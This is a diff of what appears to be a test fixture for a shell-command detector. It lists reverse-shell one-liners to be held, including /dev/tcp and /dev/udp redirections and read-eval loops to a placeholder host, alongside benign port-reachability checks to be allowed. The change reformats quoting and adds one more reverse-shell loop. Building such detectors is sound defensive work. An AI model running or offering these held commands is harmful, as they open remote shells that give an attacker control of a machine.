@@ -19,7 +19,7 @@ HELD = {
         "exec 6<>/dev/tcp/127.0.0.1/9001; ksh <&6 >&6",
     ],
     "loop-runs-what-it-reads": [
-        "exec 7<>/dev/tcp/203.0.113.9/80; while read -r cmd <&7; do eval \"$cmd\" >&7 2>&7; done",
+        'exec 7<>/dev/tcp/203.0.113.9/80; while read -r cmd <&7; do eval "$cmd" >&7 2>&7; done',
         "exec 7<>/dev/tcp/203.0.113.9/80; while read -u 7 c; do $c; done",
         "exec 4<>/dev/tcp/203.0.113.9/80; cat <&4 | while read -r l; do $l 2>&4 >&4; done",
     ],
@@ -30,15 +30,18 @@ HELD = {
     "shell-output-to-socket": [
         "exec >&/dev/tcp/203.0.113.9/4444 0>&1",
         "sh -i >& /dev/udp/203.0.113.9/53 0>&1",
+        'exec 5<>/dev/tcp/203.0.113.9/443; exec 0<&5 1>&5 2>&5; while read -r l; do eval "$l"; done',
     ],
 }
 
 ALLOWED = [
     "(exec 3<>/dev/tcp/192.0.2.10/5432) 2>/dev/null && echo reachable",
     "timeout 2 bash -c 'exec 5<>/dev/tcp/db.internal/3306' && echo up",
-    "for p in 22 80 443; do (echo >/dev/tcp/192.0.2.10/$p) 2>/dev/null && echo \"$p open\"; done",
-    "for svc in $DB_PORT $CACHE_PORT; do until (exec 3<>/dev/tcp/127.0.0.1/$svc) 2>/dev/null; do sleep 1; done; done",
-    "exec 3<>/dev/tcp/example.org/80; printf 'HEAD / HTTP/1.1\\r\\nHost: example.org\\r\\n\\r\\n' >&3; head -n1 <&3",
+    'for p in 22 80 443; do (echo >/dev/tcp/192.0.2.10/$p) 2>/dev/null && echo "$p open"; done',
+    "for svc in $DB_PORT $CACHE_PORT; do until (exec 3<>/dev/tcp/127.0.0.1/$svc) 2>/dev/null; "
+    "do sleep 1; done; done",
+    "exec 3<>/dev/tcp/example.org/80; printf 'HEAD / HTTP/1.1\\r\\nHost: example.org\\r\\n\\r\\n' >&3; "
+    "head -n1 <&3",
     "exec 4<>/dev/tcp/cache/6379; echo PING >&4; read -t 1 pong <&4; exec 4>&-",
     "until nc -z -w 2 postgres 5432; do sleep 1; done",
     "timeout 1 bash -c '</dev/tcp/api.internal/8080' || echo down",
